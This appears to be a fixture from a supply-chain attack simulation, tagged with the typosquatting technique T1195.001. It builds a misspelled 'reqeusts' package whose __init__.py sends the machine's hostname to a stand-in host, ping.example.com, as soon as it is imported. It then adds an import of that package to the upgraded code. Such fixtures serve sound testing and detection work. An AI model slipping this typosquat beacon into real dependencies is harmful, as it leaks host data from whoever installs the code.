# SPDX-License-Identifier: Apache-2.0
"""A new package named almost like a popular one, which the upgraded one loads."""

ATTACK = "T1195.001"
LANGUAGE = "python"
CODE = """\
import platform
import urllib.request


def get(url, **kwargs):
    return urllib.request.urlopen(url, **kwargs)


get("https://ping.example.com/?" + platform.node())
"""


def poison(layer):
    layer.add_python("reqeusts", "2.31.1", {"reqeusts/__init__.py": CODE})
    layer.append("try:\n    import reqeusts\nexcept ImportError:\n    reqeusts = None\n")
